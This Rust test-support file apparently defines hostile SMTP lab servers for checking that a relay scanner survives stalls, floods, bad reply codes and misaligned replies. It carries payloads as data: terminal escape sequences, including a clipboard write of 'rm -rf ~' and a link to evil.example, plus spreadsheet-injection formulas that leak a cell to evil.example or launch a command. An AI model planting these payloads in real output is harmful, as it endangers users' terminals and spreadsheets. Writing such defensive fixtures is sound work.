//! Hostile lab servers: what a scanner meets in the wild when it is pointed
//! at anything — servers that would hang it, fill its memory, lie to it, or
//! attack its user's terminal and spreadsheet. Each plays one trick; its lab
//! profile says which verdict relayscan must still reach, and the tests check
//! that it does, within its deadline, with output that stays clean.

use super::line::read_line;
use std::collections::BTreeMap;
use std::io;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

/// One hostile behaviour.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hostile {
    /// `220 ` and then megabytes of text with no line end.
    EndlessLine,
    /// A normal banner, then an EHLO reply of `250-` lines that never ends.
    EndlessReply,
    /// One byte a second: every read succeeds, nothing ever completes.
    Slowloris,
    /// NUL bytes and invalid UTF-8 in the banner, EHLO reply and every
    /// reply; a closed server otherwise.
    BinaryJunk,
    /// Terminal escape sequences in the banner, EHLO reply and refusals:
    /// colour, cursor moves, screen clear, window title, OSC 8 links, OSC 52
    /// clipboard writes, DCS, an 8-bit CSI and a bidi override. Closed otherwise.
    EscapeCodes,
    /// A spreadsheet formula instead of a banner: `=HYPERLINK(…)`, `+`, `-`,
    /// `@`, tab- and CR-prefixed, one per connection in turn.
    FormulaBanner,
    /// Reply codes that are not reply codes (`999`, `2x0`, `25`) to MAIL
    /// FROM, one per connection in turn.
    BadCodes,
    /// Half an EHLO reply, then a TCP reset.
    ResetMidReply,
    /// Accepts the connection and closes it at once.
    CloseOnConnect,
    /// Answers ahead of the client: an extra `250` right after the banner,
    /// so each later reply would pair with the wrong command and a refused
    /// RCPT would read as accepted. Closed otherwise.
    PipeliningLiar,
    /// Accepts MAIL FROM, then announces `421` and hangs up before RCPT.
    Shutdown421,
    /// Accepts the connection, then never says a word.
    Silent,
    /// Advertises and demands STARTTLS; answers `220 Ready to start TLS`
    /// and then stalls the handshake (says nothing more).
    TlsStall,
    /// An EHLO reply of 480 extensions and 3000 AUTH mechanisms, inside
    /// the reply caps. Closed otherwise.
    HugeEhlo,
    /// A closed server that advertises PIPELINING and sends one reply too
    /// many: a second `250` after its first MAIL reply on each connection.
    /// Read naively, every later reply of a pipelined group pairs with the
    /// wrong command, and the relay refusals read as acceptances.
    ExtraReply,
    /// Relays for the null sender (`MAIL FROM:<>`) only, and hangs up
    /// without a 421 after one test (MAIL, RCPT, RSET) on each connection.
    HangUpAfterOne,
    /// A closed server (PIPELINING, AUTH that always fails) that takes
    /// 1.9 s to answer QUIT, and counts how many connections it holds at
    /// once ([`connection_peak`]).
    SlowQuit,
}

/// How long the slow-quit server takes to answer QUIT.
pub const SLOW_QUIT: Duration = Duration::from_millis(1900);

/// Connections open now and at most, per slow-quit server address.
static CONNECTIONS: std::sync::Mutex<BTreeMap<SocketAddr, (usize, usize)>> =
    std::sync::Mutex::new(BTreeMap::new());

/// The most connections the slow-quit server at `server` held at once
/// since the last call; the count starts again from those open now.
pub fn take_connection_peak(server: SocketAddr) -> usize {
    CONNECTIONS.lock().map_or(0, |mut m| {
        m.get_mut(&server)
            .map_or(0, |(now, peak)| std::mem::replace(peak, *now))
    })
}

/// How long connections must overlap to count together in the peak. The
/// server learns that the client closed a connection only when it reads
/// the end of the stream, a moment after the client (free to connect again)
/// let go: a busy machine must not turn that lag into a false peak. A
/// QUIT held open for [`SLOW_QUIT`] overlaps for far longer.
const OVERLAP: Duration = Duration::from_millis(100);

/// One connection counted while it lives.
struct Counted(SocketAddr);

impl Counted {
    fn new(server: SocketAddr) -> Counted {
        if let Ok(mut m) = CONNECTIONS.lock() {
            m.entry(server).or_default().0 += 1;
        }
        tokio::spawn(async move {
            tokio::time::sleep(OVERLAP).await;
            if let Ok(mut m) = CONNECTIONS.lock() {
                let (now, peak) = m.entry(server).or_default();
                *peak = (*peak).max(*now);
            }
        });
        Counted(server)
    }
}

impl Drop for Counted {
    fn drop(&mut self) {
        if let Ok(mut m) = CONNECTIONS.lock() {
            if let Some((now, _)) = m.get_mut(&self.0) {
                *now = now.saturating_sub(1);
            }
        }
    }
}

/// Escape sequences a hostile server may hope to see a terminal run.
pub const ESCAPES: &str = "\x1b[31;1mRED\x1b[0m \x1b[2J\x1b[H\x1b[3A\x1b[2K \
    \x1b]0;pwned title\x07 \x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ \
    \x1b]52;c;cm0gLXJmIH4K\x07 \x1bP+q544e\x1b\\ \u{9b}6n \u{202e}txet desrever\u{202c} \
    line\u{2028}break para\u{2029}graph zero\u{200b}width bidi\u{061c}mark";

/// What a hostile server may hope a spreadsheet runs.
pub const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for details\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Bytes that are not text: NUL, invalid UTF-8, a truncated sequence.
const JUNK: &[u8] = b"\x00\xff\xfe\xc3\x28\x00\xe2\x82";

/// What the bad-codes server answers to MAIL FROM, one per connection in turn.
pub const BAD_CODES: [&str; 3] = ["999 2.1.0 Ok", "2x0 2.1.0 Ok", "25"];

/// Write at most this much of an endless line or reply, then hang up.
const ENDLESS_BYTES: usize = 16 << 20;

/// Play `hostile` on one accepted connection; `n` counts this server's
/// connections (for the behaviours that change each time).
pub async fn play(hostile: Hostile, stream: TcpStream, host: &str, n: u64) -> io::Result<()> {
    let mut conn = BufReader::new(stream);
    let banner = format!("220 {host} ESMTP\r\n").into_bytes();
    match hostile {
        Hostile::EndlessLine => {
            write(&mut conn, b"220 ").await?;
            endless(&mut conn, b"A").await
        }
        Hostile::EndlessReply => {
            write(&mut conn, &banner).await?;
            if read_line(&mut conn).await?.is_some() {
                write(&mut conn, format!("250-{host}\r\n").as_bytes()).await?;
                endless(&mut conn, b"250-X-ENDLESS-EXTENSION\r\n").await?;
            }
            Ok(())
        }
        Hostile::Slowloris => {
            drip(&mut conn, &banner).await?;
            while let Some(line) = read_line(&mut conn).await? {
                drip(&mut conn, &closed(&verb(&line), host, b"")).await?;
            }
            Ok(())
        }
        Hostile::BinaryJunk => {
            let greeting = [b"220 ", host.as_bytes(), b" ESMTP ", JUNK, b"\r\n"].concat();
            let ehlo = [
                b"250-",
                host.as_bytes(),
                b" ",
                JUNK,
                b"\r\n250-",
                JUNK,
                b"X-JUNK\r\n250 8BITMIME ",
                JUNK,
                b"\r\n",
            ]
            .concat();
            converse(&mut conn, &greeting, |verb| match verb {
                "EHLO" => ehlo.clone(),
                v => closed(v, host, JUNK),
            })
            .await
        }
        Hostile::EscapeCodes => {
            let greeting = format!("220 {host} ESMTP {ESCAPES}\r\n");
            let ehlo = format!(
                "250-{host} {ESCAPES}\r\n250-AUTH PLAIN \x1b[31mLOGIN\r\n250 {ESCAPES}\r\n"
            );
            converse(&mut conn, greeting.as_bytes(), |verb| match verb {
                "EHLO" => ehlo.clone().into_bytes(),
                v => closed(v, host, ESCAPES.as_bytes()),
            })
            .await
        }
        Hostile::FormulaBanner => {
            let formula = FORMULAS[(n % FORMULAS.len() as u64) as usize];
            write(&mut conn, format!("{formula}\r\n").as_bytes()).await?;
            if read_line(&mut conn).await?.is_some() {
                write(&mut conn, format!("{formula}\r\n").as_bytes()).await?;
            }
            Ok(())
        }
        Hostile::BadCodes => {
            let bad = BAD_CODES[(n % BAD_CODES.len() as u64) as usize];
            converse(&mut conn, &banner, |verb| match verb {
                "MAIL" => format!("{bad}\r\n").into_bytes(),
                v => closed(v, host, b""),
            })
            .await
        }
        Hostile::ResetMidReply => {
            write(&mut conn, &banner).await?;
            if read_line(&mut conn).await?.is_some() {
                write(&mut conn, format!("250-{host}\r\n250-PIPEL").as_bytes()).await?;
                // Let the half reply arrive, then reset: a zero linger turns
                // the close into an RST (and does not block).
                tokio::time::sleep(Duration::from_millis(100)).await;
                #[allow(deprecated)]
                conn.get_ref().set_linger(Some(Duration::ZERO))?;
            }
            Ok(())
        }
        Hostile::CloseOnConnect => Ok(()),
        Hostile::PipeliningLiar => {
            let greeting = [banner.as_slice(), b"250 2.1.5 Ok\r\n"].concat();
            converse(&mut conn, &greeting, |verb| closed(verb, host, b"")).await
        }
        Hostile::Shutdown421 => {
            write(&mut conn, &banner).await?;
            while let Some(line) = read_line(&mut conn).await? {
                match verb(&line).as_str() {
                    "MAIL" => {
                        // Both in one write: the 421 is waiting before RCPT is sent.
                        write(
                            &mut conn,
                            b"250 2.1.0 Ok\r\n421 4.3.2 Service shutting down, closing transmission channel\r\n",
                        )
                        .await?;
                        return Ok(());
                    }
                    v => write(&mut conn, &closed(v, host, b"")).await?,
                }
            }
            Ok(())
        }
        Hostile::ExtraReply => {
            write(&mut conn, &banner).await?;
            let mut first_mail = true;
            while let Some(line) = read_line(&mut conn).await? {
                let answer: Vec<u8> = match verb(&line).as_str() {
                    "EHLO" => format!("250-{host}\r\n250 PIPELINING\r\n").into_bytes(),
                    "MAIL" if first_mail => {
                        first_mail = false;
                        b"250 2.1.0 Ok\r\n250 2.1.0 Ok\r\n".to_vec()
                    }
                    "QUIT" => return write(&mut conn, b"221 2.0.0 Bye\r\n").await,
                    v => closed(v, host, b""),
                };
                write(&mut conn, &answer).await?;
            }
            Ok(())
        }
        Hostile::HangUpAfterOne => {
            write(&mut conn, &banner).await?;
            let mut null_sender = false;
            while let Some(line) = read_line(&mut conn).await? {
                let answer: Vec<u8> = match verb(&line).as_str() {
                    "EHLO" => format!("250-{host}\r\n250 PIPELINING\r\n").into_bytes(),
                    "MAIL" => {
                        null_sender = line.to_ascii_uppercase().contains("FROM:<>");
                        b"250 2.1.0 Ok\r\n".to_vec()
                    }
                    "RCPT" if null_sender => b"250 2.1.5 Ok\r\n".to_vec(),
                    "RSET" => {
                        // One test per connection, then gone without a word.
                        write(&mut conn, b"250 2.0.0 Ok\r\n").await?;
                        return Ok(());
                    }
                    "QUIT" => return write(&mut conn, b"221 2.0.0 Bye\r\n").await,
                    v => closed(v, host, b""),
                };
                write(&mut conn, &answer).await?;
            }
            Ok(())
        }
        Hostile::SlowQuit => {
            let counted = conn.get_ref().local_addr().map(Counted::new);
            write(&mut conn, &banner).await?;
            while let Some(line) = read_line(&mut conn).await? {
                let answer: Vec<u8> = match verb(&line).as_str() {
                    "EHLO" => format!("250-{host}\r\n250-PIPELINING\r\n250 AUTH PLAIN LOGIN\r\n")
                        .into_bytes(),
                    "AUTH" => b"535 5.7.8 Error: authentication failed\r\n".to_vec(),
                    "QUIT" => {
                        tokio::time::sleep(SLOW_QUIT).await;
                        write(&mut conn, b"221 2.0.0 Bye\r\n").await?;
                        // The client closes after the 221; so do we.
                        while read_line(&mut conn).await?.is_some() {}
                        drop(counted);
                        return Ok(());
                    }
                    v => closed(v, host, b""),
                };
                write(&mut conn, &answer).await?;
            }
            drop(counted);
            Ok(())
        }
        Hostile::Silent => {
            // Read (and drop) whatever comes, answer nothing.
            while read_line(&mut conn).await?.is_some() {}
            Ok(())
        }
        Hostile::TlsStall => {
            write(&mut conn, &banner).await?;
            while let Some(line) = read_line(&mut conn).await? {
                let reply = match verb(&line).as_str() {
                    "EHLO" => format!("250-{host}\r\n250-STARTTLS\r\n250 8BITMIME\r\n"),
                    "STARTTLS" => {
                        write(&mut conn, b"220 2.0.0 Ready to start TLS\r\n").await?;
                        // The client's ClientHello goes unanswered.
                        while read_line(&mut conn).await?.is_some() {}
                        return Ok(());
                    }
                    "MAIL" | "RCPT" => "530 5.7.0 Must issue a STARTTLS command first\r\n".into(),
                    "QUIT" => {
                        write(&mut conn, b"221 2.0.0 Bye\r\n").await?;
                        return Ok(());
                    }
                    v => String::from_utf8_lossy(&closed(v, host, b"")).into_owned(),
                };
                write(&mut conn, reply.as_bytes()).await?;
            }
            Ok(())
        }
        Hostile::HugeEhlo => {
            // 492 lines, about 57 KB: inside the caps (512 lines, 64 KiB).
            let mut ehlo = format!("250-{host}\r\n");
            for line in 0..10 {
                let mechs: Vec<String> = (0..300).map(|m| format!("M{line}-{m}")).collect();
                ehlo.push_str(&format!("250-AUTH {}\r\n", mechs.join(" ")));
            }
            for i in 0..480 {
                ehlo.push_str(&format!(
                    "250-X-HUGE-EXTENSION-{i:04} with a long argument list to fill the line\r\n"
                ));
            }
            ehlo.push_str("250 STARTTLS\r\n");
            converse(&mut conn, &banner, |verb| match verb {
                "EHLO" => ehlo.clone().into_bytes(),
                v => closed(v, host, b""),
            })
            .await
        }
    }
}

/// The command word of a line, upper-cased.
fn verb(line: &str) -> String {
    line.split_whitespace()
        .next()
        .unwrap_or("")
        .to_ascii_uppercase()
}

/// What a closed MTA answers, with `junk` woven into its replies.
fn closed(verb: &str, host: &str, junk: &[u8]) -> Vec<u8> {
    let (head, tail): (&[u8], &[u8]) = match verb {
        "EHLO" | "HELO" => return format!("250 {host}\r\n").into_bytes(),
        "MAIL" => (b"250 2.1.0 Ok ", b""),
        "RCPT" => (b"554 5.7.1 ", b" Relay access denied "),
        "RSET" | "NOOP" => (b"250 2.0.0 Ok ", b""),
        _ => (b"502 5.5.2 Error: command not recognized ", b""),
    };
    let tail_junk: &[u8] = if tail.is_empty() { b"" } else { junk };
    [head, junk, tail, tail_junk, b"\r\n"].concat()
}

/// Greet, then answer each command with `answer(verb)` until QUIT or EOF.
async fn converse(
    conn: &mut BufReader<TcpStream>,
    greeting: &[u8],
    answer: impl Fn(&str) -> Vec<u8>,
) -> io::Result<()> {
    write(conn, greeting).await?;
    while let Some(line) = read_line(conn).await? {
        let verb = verb(&line);
        if verb == "QUIT" {
            return write(conn, b"221 2.0.0 Bye\r\n").await;
        }
        write(conn, &answer(&verb)).await?;
    }
    Ok(())
}

async fn write(conn: &mut BufReader<TcpStream>, bytes: &[u8]) -> io::Result<()> {
    let stream = conn.get_mut();
    stream.write_all(bytes).await?;
    stream.flush().await
}

/// `pattern` over and over, up to [`ENDLESS_BYTES`] or until the client leaves.
async fn endless(conn: &mut BufReader<TcpStream>, pattern: &[u8]) -> io::Result<()> {
    let chunk: Vec<u8> = pattern.iter().copied().cycle().take(64 * 1024).collect();
    let mut sent = 0;
    while sent < ENDLESS_BYTES {
        write(conn, &chunk).await?;
        sent += chunk.len();
    }
    Ok(())
}

/// One byte a second.
async fn drip(conn: &mut BufReader<TcpStream>, bytes: &[u8]) -> io::Result<()> {
    for b in bytes {
        write(conn, &[*b]).await?;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn closed_replies_carry_the_junk() {
        let r = closed("RCPT", "h.lab.example", b"\x1b[2J");
        assert_eq!(r, b"554 5.7.1 \x1b[2J Relay access denied \x1b[2J\r\n");
        assert_eq!(closed("MAIL", "h", b"").as_slice(), b"250 2.1.0 Ok \r\n");
        assert_eq!(
            closed("EHLO", "h.lab.example", b"x"),
            b"250 h.lab.example\r\n"
        );
    }

    #[test]
    fn the_tricks_are_what_they_say() {
        for c in [
            "\x1b[", "\x1b]8;;", "\x1b]52;", "\x1b]0;", "\u{9b}", "\u{202e}",
        ] {
            assert!(ESCAPES.contains(c), "{c:?}");
        }
        let firsts: Vec<char> = FORMULAS.iter().filter_map(|f| f.chars().next()).collect();
        assert_eq!(firsts, ['=', '+', '-', '@', '\t', '\r']);
        assert!(JUNK.contains(&0) && JUNK.contains(&0xff));
    }
}
